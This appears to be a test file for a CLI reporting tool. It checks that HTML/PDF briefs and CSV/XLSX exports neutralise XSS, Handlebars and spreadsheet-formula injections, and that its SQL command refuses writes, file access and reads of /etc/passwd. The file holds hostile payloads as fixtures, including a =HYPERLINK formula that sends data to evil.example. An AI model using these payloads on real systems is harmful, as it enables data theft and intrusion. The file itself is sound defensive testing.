/**
 * Hostile strings in data — HTML/script, Handlebars syntax, spreadsheet formulas — must come out
 * of the brief (HTML, SVG charts, PDF) and of `cchc sql` exports (CSV, XLSX) as the same inert
 * text; and `cchc sql` must not change the database or touch any other file, end to end.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Db } from '../src/db.ts';
import { fixedClock, silentLogger } from '../src/effects.ts';
import { loadData } from '../src/load/index.ts';
import { renderBrief } from '../src/render/brief.ts';

const CLI = path.join(import.meta.dirname, '..', 'bin', 'cchc');

const SCRIPT = '<script>alert(1)</script> Sở Nội vụ';
const IMG = '<img src=x onerror=alert(1)>';
const HBS_UNIT = 'Sở {{constructor}} Tư pháp';
const HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"bấm")';

const UNITS = `unit_code,name,short_name,kind,parent_code,valid_from,valid_to,successor_code
AG,UBND tỉnh An Giang,An Giang,province,,,,
AG.SNV,${SCRIPT},${IMG},department,AG,,,
AG.STP,${HBS_UNIT},{{{x}}},department,AG,,,
AG.CT,"${HYPERLINK.replaceAll('"', '""')}",@SUM(A1),district,AG,,,
`;

/** Titles as offices might (maliciously or by accident) type them; all overdue at the end of 2024-Q4 but T4, T5. */
const TITLES: Record<string, string> = {
  T1: "<script>alert('t1')</script><img src=x onerror=alert(2)>",
  T2: "{{constructor.constructor 'alert(3)'}} {{{raw}}} {{> partial}}",
  T3: '=HYPERLINK("http://evil.example","Xem")',
  T4: '+1+2',
  T5: '@SUM(A1:A9)',
  T6: '-2+3 </td></tr></table><h1>Giả mạo</h1>',
};
const csvField = (s: string) => (/[",\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s);
const TASKS = `task_id,doc_no,lead_unit,support_units,title,area,index_code,assigned_on,due_on,completed_on,cancelled_on
T1,,AG.SNV,,${csvField(TITLES.T1!)},direction,,2024-10-01,2024-11-15,,
T2,,AG.STP,,${csvField(TITLES.T2!)},institutions,,2024-10-01,2024-11-15,,
T3,,AG.CT,,${csvField(TITLES.T3!)},procedures,,2024-10-01,2024-11-15,,
T4,,AG.CT,,${csvField(TITLES.T4!)},procedures,,2024-10-01,2024-11-15,2024-11-10,
T5,,AG.SNV,,${csvField(TITLES.T5!)},procedures,,2024-10-01,2024-11-15,2024-11-20,
T6,,AG.STP,,${csvField(TITLES.T6!)},procedures,,2024-10-01,2024-12-15,,
`;

const sha = (file: string) => createHash('sha256').update(readFileSync(file)).digest('hex');

let root: string;
let dbPath: string;

beforeAll(async () => {
  root = mkdtempSync(path.join(os.tmpdir(), 'cchc-injection-'));
  const data = path.join(root, 'data');
  mkdirSync(data);
  writeFileSync(path.join(data, 'units.csv'), UNITS);
  writeFileSync(path.join(data, 'tasks.csv'), TASKS);
  dbPath = path.join(root, 'cchc.duckdb');
  await loadData(data, dbPath);
});
afterAll(() => rmSync(root, { recursive: true, force: true }));

describe('hostile strings in the brief', () => {
  let html: string;
  let svgs: string[];
  let pdfText: string;
  let pdf: Buffer;

  beforeAll(async () => {
    const out = path.join(root, 'brief');
    const db = await Db.open(dbPath, { readOnly: true });
    try {
      await renderBrief(
        db,
        { out, period: '2024-Q4' },
        { clock: fixedClock('2025-01-06T02:00:00Z'), logger: silentLogger },
      );
    } finally {
      db.close();
    }
    html = readFileSync(path.join(out, 'brief.html'), 'utf8');
    svgs = readdirSync(path.join(out, 'charts')).map((f) => readFileSync(path.join(out, 'charts', f), 'utf8'));
    pdf = readFileSync(path.join(out, 'brief.pdf'));
    pdfText = execFileSync('pdftotext', ['-layout', path.join(out, 'brief.pdf'), '-'], { encoding: 'utf8' });
  }, 120_000);

  it('the HTML has no markup from data: no script, no img, no injected heading or table end', () => {
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toMatch(/<h1>Giả mạo/);
    // Event-handler attributes on real tags (quoted attribute values, where escaped text lives, stripped).
    const tags = (html.match(/<[a-z][^>]*>/gi) ?? []).map((t) => t.replace(/"[^"]*"|'[^']*'/g, '""'));
    expect(tags.filter((t) => /\son\w+\s*=/i.test(t))).toEqual([]);
  });

  it('the HTML shows the strings as escaped text', () => {
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt; Sở Nội vụ');
    expect(html).toContain('&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;h1&gt;Giả mạo&lt;/h1&gt;');
  });

  it('Handlebars syntax in data is printed, never evaluated', () => {
    expect(html).toContain(HBS_UNIT);
    expect(html).toContain('{{{raw}}} {{&gt; partial}}');
    expect(html).not.toMatch(/function Object\(\)|\[object Object\]|\[native code\]/);
  });

  it('chart SVGs carry the unit labels as escaped text only', () => {
    expect(svgs.length).toBeGreaterThan(0);
    const all = svgs.join('\n');
    expect(all).not.toMatch(/<script|<img|<foreignObject/i);
    expect(all).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(all).toContain('@SUM(A1)');
  });

  it('the PDF shows the strings verbatim and has no links or scripts from them', () => {
    const flat = pdfText.replace(/\s+/g, ' ');
    expect(flat).toContain(SCRIPT);
    expect(flat).toContain(HBS_UNIT);
    expect(flat).toContain("{{constructor.constructor 'alert(3)'}}");
    expect(flat).toContain('=HYPERLINK("http://evil.example","Xem")');
    expect(pdf.includes('/JavaScript')).toBe(false);
    expect(pdf.includes('/URI')).toBe(false);
  });
});

describe('hostile strings in cchc sql exports', () => {
  const sql = (...args: string[]) =>
    spawnSync(CLI, ['sql', '--db', dbPath, ...args], { encoding: 'utf8', timeout: 60_000 });

  it('CSV: formulas get a leading apostrophe, markup and Handlebars pass through as text', () => {
    const r = sql('--format', 'csv', 'SELECT task_id, title FROM tasks ORDER BY task_id');
    expect(r.status).toBe(0);
    expect(r.stdout.split('\n')).toEqual([
      'task_id,title',
      `T1,${TITLES.T1}`,
      `T2,${TITLES.T2}`,
      `T3,"'=HYPERLINK(""http://evil.example"",""Xem"")"`,
      "T4,'+1+2",
      "T5,'@SUM(A1:A9)",
      `T6,'${TITLES.T6}`,
      '',
    ]);
  });

  it('XLSX: every cell is a string, none a formula, formulas neutralised', async () => {
    const file = path.join(root, 'units.xlsx');
    const r = sql('--out', file, 'SELECT unit_code, name, short_name FROM units ORDER BY unit_code');
    expect(r.status).toBe(0);
    const { default: ExcelJS } = await import('exceljs');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.worksheets[0]!;
    const cells: { value: unknown; formula: unknown }[] = [];
    ws.eachRow((row) => row.eachCell((c) => cells.push({ value: c.value, formula: c.formula })));
    expect(cells.every((c) => typeof c.value === 'string' && c.formula === undefined)).toBe(true);
    expect(cells.map((c) => c.value)).toEqual(
      expect.arrayContaining([`'${HYPERLINK}`, "'@SUM(A1)", SCRIPT, IMG, HBS_UNIT, '{{{x}}}']),
    );
  });
});

describe('cchc sql cannot change the database or reach other files (through the CLI)', () => {
  // test/sql.test.ts tries more in-process; these go through bin/cchc, a few with --write too.
  const attempts: [string, string[]][] = [
    ['DROP TABLE units', []],
    ["ATTACH '{root}/other.duckdb' AS o", []],
    ["COPY units TO '{root}/leak.csv'", ['--write']],
    ['INSTALL httpfs', []],
    ["SELECT * FROM read_csv('/etc/passwd')", []],
    ['SET enable_external_access = true', ['--write']],
  ];
  for (const [template, flags] of attempts) {
    it(`${template}${flags.length ? ` ${flags.join(' ')}` : ''}: refused with a message, database byte-identical, no file written`, () => {
      const before = sha(dbPath);
      const q = template.replaceAll('{root}', root);
      const r = spawnSync(CLI, ['sql', '--db', dbPath, ...flags, q], { encoding: 'utf8', timeout: 60_000 });
      expect([1, 2]).toContain(r.status);
      expect(r.stderr).toMatch(/^(SQL error|error):/m);
      expect(r.stderr).not.toMatch(/Unexpected error|\n\s+at /);
      expect(r.stdout).not.toMatch(/root:x:0:0|passwd/);
      expect(sha(dbPath)).toBe(before);
      expect(existsSync(path.join(root, 'leak.csv'))).toBe(false);
      expect(existsSync(path.join(root, 'other.duckdb'))).toBe(false);
    });
  }
});
